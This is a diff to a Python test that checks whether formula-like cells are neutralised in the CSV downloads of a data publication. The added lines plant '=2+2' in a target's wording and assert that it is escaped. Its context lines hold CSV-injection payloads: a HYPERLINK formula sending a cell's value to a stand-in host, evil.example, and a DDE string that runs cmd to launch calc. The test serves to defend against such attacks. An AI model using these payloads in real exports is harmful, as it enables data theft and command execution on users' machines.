@@ -104,9 +104,13 @@ def test_formula_like_cells_are_neutralised_in_every_published_csv(tmp_path):
     path.write_text(path.read_text(encoding="utf-8").replace(
         ",ok,true,,\n", ',ok,true,"=HYPERLINK(""https://evil.example/?leak=""&A3,""Source"")",\n', 1)
         .replace(",ok,false,,\n", ",ok,false,@SUM(1+1)*cmd|' /C calc'!A0,\n", 1), encoding="utf-8")
+    targets = book / "data/targets.csv"  # a target's wording is a cell of its chart's download
+    targets.write_text(targets.read_text(encoding="utf-8").replace(
+        "0,No household in destitution,", "0,=2+2 0%,"), encoding="utf-8")
     data = load(book)
     edition = max(data.editions.values(), key=lambda e: e.year)
     measure_csv = downloads.measure_csv(data, edition, data.measure("destitution"))
+    assert measure_csv.splitlines()[-1].endswith(",'=2+2 0%")
     archive = zipfile.ZipFile(io.BytesIO(downloads.zip_bytes(book, edition)))
     published = [measure_csv, downloads.edition_files(book, edition)["observations.csv"].decode("utf-8"),
                  archive.read("luton-2040-data/observations.csv").decode("utf-8")]
